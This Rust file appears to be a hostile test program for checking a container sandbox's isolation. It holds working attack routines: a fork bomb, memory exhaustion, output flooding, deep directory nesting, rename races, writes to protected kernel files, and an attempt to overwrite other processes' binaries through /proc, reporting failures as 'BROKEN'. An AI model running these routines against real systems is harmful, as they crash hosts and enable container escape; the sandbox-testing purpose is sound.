//! What a hostile program does in a container: tries to get out, and says how far it got.

use std::fs::{self, OpenOptions};
use std::io::{self, Write};
use std::os::unix::fs::{FileTypeExt, MetadataExt};
use std::path::Path;
use std::process::{self, Command};
use std::time::Duration;
use std::{env, thread};

/// Files of the kernel that nobody in a container may write.
const WRITE: [&str; 5] = [
    "/proc/sysrq-trigger",
    "/proc/sys/kernel/core_pattern",
    "/proc/sys/kernel/modprobe",
    "/proc/sys/vm/drop_caches",
    "/sys/kernel/mm/transparent_hugepage/enabled",
];
/// Files of the kernel that read as empty.
const MASKED: [&str; 4] = ["/proc/kcore", "/proc/keys", "/proc/timer_list", "/proc/interrupts"];

/// Does what `arguments` say; false if that is nothing known here.
pub fn attack(arguments: &[String]) -> bool {
    let words: Vec<&str> = arguments.iter().skip(1).map(String::as_str).collect();
    match words[..] {
        ["fds"] => descriptors(),
        ["guards"] => guards(),
        ["show", ..] => words[1..].iter().for_each(|path| show(path)),
        ["deep", count] => deep(count.parse().expect("a number")),
        ["flood"] => flood(),
        ["storm"] => storm(),
        ["linger"] => linger(),
        ["eat"] => eat(),
        ["swap", one, other] => swap(one, other),
        ["overwrite"] => overwrite(),
        _ => return false,
    }
    true
}

/// Every descriptor and what it is.
fn descriptors() {
    let mut found: Vec<u32> = Vec::new();
    for entry in fs::read_dir("/proc/self/fd").expect("descriptors").flatten() {
        found.push(entry.file_name().to_string_lossy().parse().expect("number"));
    }
    // The last one is that of the directory just read.
    found.sort_unstable();
    found.pop();
    println!("descriptors={found:?}");
}

/// Whether what protects the kernel's files is in place; a line beginning with `BROKEN` if not.
fn guards() {
    for path in WRITE {
        if OpenOptions::new().write(true).open(path).is_ok() {
            println!("BROKEN {path} can be opened for writing");
        }
    }
    for path in MASKED {
        if fs::read(path).is_ok_and(|bytes| !bytes.is_empty()) {
            println!("BROKEN {path} has content");
        }
    }
    let null = fs::metadata("/dev/null").expect("null");
    if !null.file_type().is_char_device() || null.rdev() != 0x103 {
        println!("BROKEN /dev/null is something else");
    }
    let name = fs::read_to_string("/proc/self/comm").unwrap_or_default();
    if name.trim() != "probe" {
        println!("BROKEN /proc is somebody else's: {name:?}");
    }
    println!("guarded");
}

/// What a path is: a device's numbers, or the number of bytes.
fn show(path: &str) {
    match fs::metadata(path) {
        Ok(stat) if stat.file_type().is_char_device() => {
            println!("{path} is device {}:{}", stat.rdev() >> 8, stat.rdev() & 0xff);
        }
        Ok(stat) => println!("{path} has {} bytes", stat.len()),
        Err(error) => println!("{path} {:?}", error.kind()),
    }
}

/// Directories in directories, more than anybody may have open.
fn deep(count: usize) {
    env::set_current_dir("/").expect("root");
    for _ in 0..count {
        fs::create_dir("d").expect("directory");
        env::set_current_dir("d").expect("inside");
    }
    println!("made {count}");
}

/// Prints for ever, as fast as it can.
fn flood() {
    let chunk = [b'x'; 65536];
    while io::stdout().write_all(&chunk).is_ok() {}
}

/// Starts itself again and again.
fn storm() {
    loop {
        // At the limit there is nothing to start for a while.
        if Command::new("/proc/self/exe").arg("storm").spawn().is_err() {
            thread::sleep(Duration::from_millis(1));
        }
    }
}

/// Leaves a child behind and does not end either; prints all the while.
fn linger() {
    Command::new("/proc/self/exe").arg("flood").spawn().expect("child");
    flood();
}

/// Takes memory until there is none.
fn eat() {
    let mut taken: Vec<Vec<u8>> = Vec::new();
    loop {
        taken.push(vec![taken.len() as u8 | 1; 1 << 20]);
    }
}

/// Lets two names change places for ever.
fn swap(one: &str, other: &str) {
    loop {
        super::exchange(one, other).expect("both are there");
    }
}

/// Tries for ever to write to the program of every other process that it sees.
fn overwrite() {
    let own = fs::read_link("/proc/self/exe").expect("own");
    loop {
        for entry in fs::read_dir("/proc").expect("proc").flatten() {
            let program = entry.path().join("exe");
            let Ok(target) = fs::read_link(&program) else { continue };
            if target != own && entry.file_name() != "self" && entry.file_name() != "thread-self" {
                seize(&program, &target);
            }
        }
    }
}

/// Holds the program of another process and tries to change it until that process is gone, and once
/// after.
fn seize(program: &Path, target: &Path) {
    let Ok(held) = fs::File::open(program) else { return println!("seen {}", target.display()) };
    let again = format!("/proc/{}/fd/{}", process::id(), std::os::fd::AsRawFd::as_raw_fd(&held));
    for _ in 0..200 {
        match OpenOptions::new().append(true).open(&again) {
            Ok(mut file) => println!("BROKEN {} written: {:?}", target.display(), file.write_all(b"owned")),
            Err(error) if fs::exists(program).is_ok_and(|there| there) => drop(error),
            Err(error) => return println!("held {}: {:?}", target.display(), error.kind()),
        }
        thread::sleep(Duration::from_millis(1));
    }
}
